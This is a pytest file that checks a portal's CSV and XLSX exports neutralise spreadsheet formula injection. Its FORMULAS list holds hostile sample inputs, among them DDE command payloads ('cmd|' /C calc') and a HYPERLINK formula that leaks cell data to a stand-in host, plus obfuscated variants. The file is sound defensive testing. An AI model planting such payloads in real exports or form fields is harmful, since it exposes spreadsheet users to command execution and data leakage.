"""Tables for spreadsheets: what strangers wrote is read back as text, by other libraries than wrote it."""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from commsportal.tables import LONGEST_TEXT, Cell, Sheet, attachment, csv_of, neutral, xlsx_of

pytestmark = pytest.mark.control("E1")
HOSTILE = [one["input"] for one in json.loads(Path("tests/data/hostile_names.json").read_text())]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Rita")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0@A1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    'Rita";=1+1;"',
    'Rita","=1+1',
    "Rita;=1+1",
    "Rita;  @A1",
    "Rita\t=1+1",
    "Rita\r\n=1+1",
    "Rita|=1+1",
    "{=1+1}",
    "https://evil.example/",
    "007",
    "1e9",
    "#REF!",
    "_x003D_1+1",
]
SIGNS = tuple("=+-@\t\r\n\x00＝＋－＠")


def begins_a_formula(cell: str) -> bool:
    return cell.startswith(SIGNS) or cell.strip(" \u00a0\u200b\ufeff").startswith(SIGNS)


def read_csv(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def read_xlsx(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize("payload", [*FORMULAS, *HOSTILE])
def test_no_text_becomes_a_formula_in_any_column(payload: str) -> None:
    rows: list[list[Cell]] = [[payload, "Rita", "x"], ["x", payload, "Rita"], ["Rita", "x", payload]]
    sheet = Sheet("People", ("A", "B", "C"), rows)
    told = read_csv(csv_of(sheet))
    assert [len(row) for row in told] == [3] * 4 and told[1][0] == told[2][1] == told[3][2] == neutral(payload)
    assert not any(begins_a_formula(cell) for row in told for cell in row)
    content = xlsx_of(sheet)
    cells = [cell for row in read_xlsx(content) for cell in row]
    assert len(cells) == 12 and {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert not any(isinstance(cell.value, str) and begins_a_formula(cell.value) for cell in cells)
    assert not any(isinstance(cell.value, (int, float)) or cell.hyperlink for cell in cells)
    book = ZipFile(io.BytesIO(content))
    assert b"<f>" not in b"".join(map(book.read, book.namelist()))


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
@pytest.mark.parametrize("payload", FORMULAS)
def test_no_formula_begins_where_another_program_separates(payload: str, delimiter: str) -> None:
    content = csv_of(Sheet("People", ("A", "B"), [["Rita", payload]]))
    assert not any(begins_a_formula(cell) for row in read_csv(content, delimiter) for cell in row)


@pytest.mark.parametrize("text", ["", "Rita Hansen", "O'Neil", "Anna-Lena", "a@x.test", "1 + 1", "Müller; Söhne"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=2, max_size=2))
def test_any_text_comes_back_from_both(texts: list[str]) -> None:
    sheet = Sheet("People", ("A", "B"), [texts])
    wanted = [neutral(one) for one in texts]
    assert read_csv(csv_of(sheet))[1] == wanted
    assert not any(begins_a_formula(one) for one in wanted)
    told = [cell.value or "" for cell in read_xlsx(xlsx_of(sheet))[1]]
    assert [clean(unescape(str(one))) for one in told] == [clean(one) for one in wanted]


def clean(text: str) -> str:
    """Return a text without what XML cannot hold or spells anew."""
    return "".join(one for one in text if one.isprintable())


def test_numbers_are_numbers_and_instants_have_their_offset() -> None:
    at = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
    sheet = Sheet("People", ("A", "B", "C", "D"), [[-3, 1.5, at, None]])
    assert csv_of(sheet) == b'\xef\xbb\xbf"A","B","C","D"\r\n-3,1.5,"2026-03-02T09:30:00+00:00",""\r\n'
    told = [cell.value for cell in read_xlsx(xlsx_of(sheet))[1]]
    assert told[:3] == [-3, 1.5, "2026-03-02T09:30:00+00:00"] and not told[3]
    with pytest.raises(ValueError, match="offset"):
        csv_of(Sheet("People", ("A",), [[at.replace(tzinfo=None)]]))


def test_a_workbook_has_a_sheet_for_each_table_and_holds_the_longest_text() -> None:
    long = "x" * (LONGEST_TEXT + 1)
    content = xlsx_of(Sheet("Who: [all]/'", ("A",), [[long], ["\ud800"]]), Sheet("Stays", ("A",), []))
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Who   all   ", "Stays"]
    assert len(book.worksheets[0]["A2"].value) == LONGEST_TEXT and book.worksheets[0]["A3"].value == "?"


def test_a_file_has_its_name_and_kind() -> None:
    answer = attachment(b"x", "attendance-2026", "csv")
    assert answer["Content-Disposition"] == 'attachment; filename="attendance-2026.csv"'
    assert answer["Content-Type"].startswith("text/csv")
